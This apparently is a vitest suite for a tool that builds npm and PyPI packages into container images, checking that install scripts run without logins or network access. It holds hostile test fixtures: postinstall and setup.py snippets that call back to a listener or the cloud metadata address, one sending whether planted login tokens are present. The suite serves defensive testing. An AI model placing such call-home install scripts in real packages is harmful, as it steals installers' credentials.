import { readFile } from 'node:fs/promises'
import { describe, expect, onTestFinished, type TestContext, test } from 'vitest'
import { PUBLIC_PYPI } from '../../src/lib/public-registries.ts'
import {
  type Engine,
  hostAddress,
  imageUser,
  leftOf,
  listener,
  NODE,
  PYTHON,
} from '../support/hostile/image-user.ts'
import { type NpmPackage, npmIndex } from '../support/hostile/npm-index.ts'
import { pypiIndex } from '../support/hostile/pypi-index.ts'
import { isLong } from '../support/series.ts'

const METADATA = 'http://169.254.169.254/latest/meta-data/'
const CA = process.env.SSL_CERT_FILE ?? '/etc/ssl/certs/ca-certificates.crt'
const LOGIN = 'login-of-the-test-4f1d'
const fixture = (name: string) => readFile(new URL(`../../fixtures/hostile/${name}`, import.meta.url), 'utf8')
const engines: Engine[] = ['docker', 'podman']
/** What withholds logins and network is the same code for all kinds of packages, so each kind needs one engine. */
const enginesFor = (kind: 'npm' | 'pypi'): Engine[] =>
  isLong ? engines : kind === 'npm' ? ['podman'] : ['docker']

/** What attack code could take, reach and see. */
interface Loot {
  readonly env: Readonly<Record<string, string>>
  readonly files: string
  readonly found: string
  readonly interfaces: readonly string[]
  readonly tried: number
  readonly reached: readonly string[]
}

const bin = { bin: 'main.js' }
const files = { 'main.js': '#!/usr/bin/env node\nconsole.log("installed")\n' }

/** A user whose npm has logins for an index with these packages. */
async function npmUser(engine: Engine, context: TestContext, packages: readonly NpmPackage[]) {
  const user = await imageUser(engine, NODE, context)
  const index = await npmIndex(packages, hostAddress())
  onTestFinished(() => index.close())
  const { host } = index
  await user.login('npmrc', `registry=http://${host}/\n//${host}/:_authToken=npm-${LOGIN}\n`)
  await user.login('netrc', `machine ${hostAddress()}\nlogin ada\npassword netrc-${LOGIN}\n`)
  await user.config('set-build-env', 'BUILD_VALUE', `value-${LOGIN}`)
  return { ...user, registry: host, left: (image?: string) => leftOf(engine, user.home, image) }
}

/** What `fixtures/hostile/reach-out.cjs` writes down. */
interface Reached {
  readonly env: Readonly<Record<string, string>>
  readonly interfaces: readonly string[]
  readonly fetched: readonly string[]
  readonly connected: readonly string[]
  readonly named: readonly string[]
  readonly tried: number
}

const REACHED = 'cat /app/node_modules/server/reached.json'

/** A user of a package whose script tries to get out; at 127.0.0.2 another server has the registry's port. */
async function reachingUser(engine: Engine, context: TestContext, home: string) {
  const user = await npmUser(engine, context, [
    {
      name: 'server',
      manifest: {
        ...bin,
        scripts: { postinstall: `node reach-out.cjs $npm_package_resolved ${home} ${METADATA}` },
      },
      files: {
        'main.js': await fixture('server.js'),
        'reach-out.cjs': await fixture('reach-out.cjs'),
      },
    },
  ])
  const elsewhere = await listener({ host: '127.0.0.2', port: Number(user.registry.split(':')[1]) })
  return { ...user, elsewhere }
}

/** Lines in which a build says that code of packages runs. */
const announced = (stderr: string) => stderr.split('\n').filter(line => line.includes('install scripts'))

const LEFT = 'ls /usr/local/bin/left /etc/left /home/left 2>/dev/null; true'

describe.each(enginesFor('npm'))('on %s', { timeout: 600_000 }, engine => {
  test('an install script finds no login and no network, and leaves nothing outside its package', async context => {
    const home = await listener()
    const user = await npmUser(engine, context, [
      { name: 'server', manifest: { ...bin, dependencies: { thief: '1.0.0', broken: '1.0.0' } }, files },
      {
        name: 'thief',
        // npm tells scripts where the package came from.
        manifest: {
          scripts: { postinstall: `node attack.cjs ${home.url} ${METADATA} $npm_package_resolved` },
        },
        files: { 'attack.cjs': await fixture('install-attack.cjs') },
      },
      { name: 'broken', manifest: { optionalDependencies: { optional: '1.0.0' } } },
      { name: 'optional', manifest: { scripts: { install: 'exit 3' } } },
    ])

    const shown = await user.build('npx://server@1.0.0')

    expect(shown, shown.stderr).toMatchObject({ code: 0, stdout: `${shown.image}\n` })
    expect(announced(shown.stderr)).toEqual([
      'Running install scripts of optional@1.0.0, thief@1.0.0 (without logins, without network)',
    ])
    const loot: Loot = JSON.parse(await user.inside(shown.image, 'cat /app/node_modules/thief/loot.json'))
    expect(JSON.stringify(loot)).not.toContain(LOGIN)
    expect(loot).toMatchObject({ found: '', interfaces: ['lo'], tried: 3, reached: [] })
    expect(loot.env).not.toHaveProperty('BUILD_VALUE')
    expect(home.seen).toEqual([])
    expect(await user.inside(shown.image, LEFT)).toBe('')
    // The optional package whose script fails is left out, as npm does it.
    expect(await user.inside(shown.image, '/app/mcp-server; ls /app/node_modules')).toBe(
      'installed\nbroken\nserver\nthief',
    )
  })
})

describe.each(engines)('on %s', { timeout: 600_000 }, engine => {
  test('a script that may use the network reaches the registries and hosts that were named, and nothing else', async context => {
    const home = await listener()
    const user = await reachingUser(engine, context, home.url)

    const allowed = await user.build('npx://server@1.0.0', '--allow-build-network')

    expect(allowed, allowed.stderr).toMatchObject({ code: 0, stdout: `${allowed.image}\n` })
    expect(announced(allowed.stderr)).toEqual([
      expect.stringMatching(
        new RegExp(
          `^warning: install scripts of server@1.0.0 may reach .*${user.registry}.* \\(without logins\\)$`,
        ),
      ),
      expect.stringMatching(
        /^warning: install scripts of server@1.0.0 wanted to reach .*169\.254\.169\.254:80/,
      ),
    ])
    const reached: Reached = JSON.parse(await user.inside(allowed.image, REACHED))
    expect(reached).toMatchObject({
      ...{
        fetched: [`http://${user.registry}/server`],
        connected: [],
        named: [],
        interfaces: ['lo', 'eth0'],
      },
      tried: 5,
    })
    expect(JSON.stringify(reached.env)).not.toContain(LOGIN)
    expect([...home.seen, ...user.elsewhere.seen]).toEqual([])
    expect(await user.left(allowed.image)).toEqual([])

    const named = await user.build('npx://server@1.0.0', '--allow-build-host', '127.0.0.2')

    expect(named, named.stderr).toMatchObject({ code: 0, stdout: `${named.image}\n` })
    expect(announced(named.stderr)[0]).toMatch(/ may reach .*, 127\.0\.0\.2 \(without logins\)$/)
    expect(JSON.parse(await user.inside(named.image, REACHED))).toMatchObject({
      fetched: [user.elsewhere.url, `http://${user.registry}/server`],
      connected: [],
    })
    expect(home.seen).toEqual([])
    expect(await user.left(named.image)).toEqual([])
  })
})

describe.each(enginesFor('pypi'))('on %s', { timeout: 600_000 }, engine => {
  test('the setup code of a source distribution finds no login and no network', async context => {
    const home = await listener()
    const other = await pypiIndex([], '0.0.0.0')
    const addresses = [home.url, METADATA, other.simple.replace('0.0.0.0', hostAddress())]
    const attack = (await fixture('setup_attack.py')).replace(
      'ADDRESSES = []',
      `ADDRESSES = ${JSON.stringify(addresses)}`,
    )
    const index = await pypiIndex(
      [
        { name: 'hostile_sdist', kind: 'sdist', requires: ['plain_wheel'], files: { 'setup.py': attack } },
        { name: 'plain_wheel', files: { 'plain_wheel.py': '' } },
      ],
      '0.0.0.0',
    )
    onTestFinished(async () => void (await Promise.all([index.close(), other.close()])))
    const host = index.host.replace('0.0.0.0', hostAddress())
    const user = await imageUser(engine, PYTHON, context)
    await user.login('netrc', `machine ${hostAddress()}\nlogin ada\npassword netrc-${LOGIN}\n`)
    await user.config('set-build-env', 'PIP_INDEX_URL', `http://ada:url-${LOGIN}@${host}/simple/`)
    await user.config('set-build-env', 'PIP_EXTRA_INDEX_URL', `${PUBLIC_PYPI}/`)
    await user.config('set-build-env', 'PIP_TRUSTED_HOST', hostAddress())

    const shown = await user.build('uvx://hostile-sdist==1.0.0', `--ca-cert=${CA}`)

    expect(shown, shown.stderr).toMatchObject({ code: 0, stdout: `${shown.image}\n` })
    expect(announced(shown.stderr)).toEqual([
      'Running install scripts of hostile_sdist-1.0.0 (without logins, without network)',
    ])
    const loot: Loot = JSON.parse(await user.inside(shown.image, '/app/mcp-server'))
    expect(JSON.stringify(loot)).not.toContain(LOGIN)
    expect(loot).toMatchObject({ found: '', interfaces: ['lo'], tried: 3, reached: [] })
    expect([...home.seen, ...other.asked]).toEqual([])
    expect(await user.inside(shown.image, LEFT)).toBe('')
    expect(await user.inside(shown.image, 'ls /app/venv/lib/*/site-packages')).toContain('plain_wheel.py')
  })
})

// The words of a build are the same on every engine.
describe('what a build says', { timeout: 600_000 }, () => {
  test('a package without scripts is built in silence', async context => {
    const manifest = { ...bin, scripts: { test: 'exit 1' } }
    const user = await npmUser('docker', context, [{ name: 'server', manifest, files }])

    const shown = await user.build('npx://server@1.0.0')

    expect(shown, shown.stderr).toMatchObject({ code: 0, stderr: `Building ${shown.image}\n` })
    expect(await user.inside(shown.image, '/app/mcp-server')).toBe('installed')
  })

  test('a script that needs the network fails and names the flags', async context => {
    const home = await listener()
    const load = `fetch('${home.url}?' + JSON.stringify(process.env).includes('${LOGIN}'))`
    const user = await npmUser('docker', context, [
      {
        name: 'server',
        manifest: { ...bin, scripts: { postinstall: 'node load.cjs' } },
        files: { ...files, 'load.cjs': load },
      },
    ])

    const refused = await user.build('npx://server@1.0.0')

    expect(refused).toMatchObject({ code: 1, stdout: '' })
    expect(refused.stderr).toContain('The install scripts of server@1.0.0 failed.')
    expect(refused.stderr).toContain('It failed because it has no network.')
    expect(refused.stderr).toContain('--allow-build-network')
    expect(refused.stderr).toContain('--allow-build-host')
    expect(home.seen).toEqual([])
  })

  test('a script that fails at a host which it may not reach names the flag', async context => {
    const home = await listener()
    const load = `fetch('${home.url}').then(({ ok }) => process.exit(ok ? 0 : 1))`
    const user = await npmUser('docker', context, [
      {
        name: 'server',
        manifest: { ...bin, scripts: { postinstall: 'node load.cjs' } },
        files: { ...files, 'load.cjs': load },
      },
    ])

    const denied = await user.build('npx://server@1.0.0', '--allow-build-network')

    expect(denied).toMatchObject({ code: 1, stdout: '' })
    expect(denied.stderr).toContain(`They wanted to reach ${new URL(home.url).host}, which is not allowed.`)
    expect(denied.stderr).toContain('--allow-build-host HOST')
    expect(home.seen).toEqual([])
    expect(await user.left()).toEqual([])
  })
})

test.for<[what: string, kind: 'sdist' | 'wheel', by: 'address' | 'repository']>([
  ['the address of a source distribution', 'sdist', 'address'],
  ['the address of a wheel', 'wheel', 'address'],
  ['a Git repository', 'wheel', 'repository'],
])(
  'a PyPI package that depends on %s is refused, and nothing of that runs',
  { timeout: 600_000 },
  async ([, kind, by], context) => {
    const home = await listener()
    const callHome = `import urllib.request\nurllib.request.urlopen("${home.url}")\n`
    const evil = { name: 'evil', kind, files: { 'setup.py': callHome, 'evil.py': '' } } as const
    const elsewhere = await pypiIndex([evil], '0.0.0.0')
    const address = elsewhere.fileUrl('evil').replace('0.0.0.0', hostAddress())
    const requires = [`evil @ ${by === 'address' ? address : 'git+http://example.invalid/evil.git'}`]
    const index = await pypiIndex(
      [{ name: 'server', requires, scripts: ['server = server:main'] }],
      '0.0.0.0',
    )
    onTestFinished(async () => void (await Promise.all([index.close(), elsewhere.close()])))
    const user = await imageUser('docker', PYTHON, context)
    const simple = index.simple.replace('0.0.0.0', hostAddress())
    await user.config('set-build-env', 'PIP_INDEX_URL', simple)
    await user.config('set-build-env', 'PIP_TRUSTED_HOST', hostAddress())

    const shown = await user.build('uvx://server==1.0.0')

    expect(shown).toMatchObject({ code: 1, stdout: '' })
    expect(shown.stderr).toMatch(/: refused\.$/m)
    expect(home.seen).toEqual([])
  },
)

describe('a dependency of an npm package', { timeout: 600_000 }, () => {
  test.for<[what: string, spec: (elsewhere: string) => string, refusal: RegExp]>([
    ['a Git repository', () => 'git+https://example.invalid/x.git', /git-dependencies-are-refused/],
    ['an address of its own', elsewhere => elsewhere, /thief comes from .* not a package registry: refused/],
    ['a folder of the machine', () => 'file:/etc', /thief comes from .* not a package registry: refused/],
  ])('on %s is refused before anything is installed', async ([, spec, refusal], context) => {
    const elsewhere = await npmIndex([{ name: 'thief' }], hostAddress())
    onTestFinished(() => elsewhere.close())
    const dependencies = { thief: spec(elsewhere.tarballUrl('thief')) }
    const user = await npmUser('docker', context, [
      { name: 'server', manifest: { ...bin, dependencies }, files },
    ])

    const shown = await user.build('npx://server@1.0.0')

    expect(shown).toMatchObject({ code: 1, stdout: '' })
    expect(shown.stderr).toMatch(refusal)
  })
})
